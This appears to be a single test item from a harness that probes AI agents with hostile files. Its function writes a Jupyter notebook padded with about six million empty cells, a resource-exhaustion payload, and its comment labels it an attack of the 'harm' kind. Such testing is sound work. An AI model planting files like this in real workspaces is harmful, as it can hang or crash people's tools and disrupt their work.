# {"attack": "Hands in a notebook with millions of empty cells.", "breach": "harm", "kind": "files", "quick": true}

def plant(folder, targets):
    (folder / "arena.ipynb").write_bytes(b'{"cells":[' + b"{}," * 6_000_000 + b"{}]}")
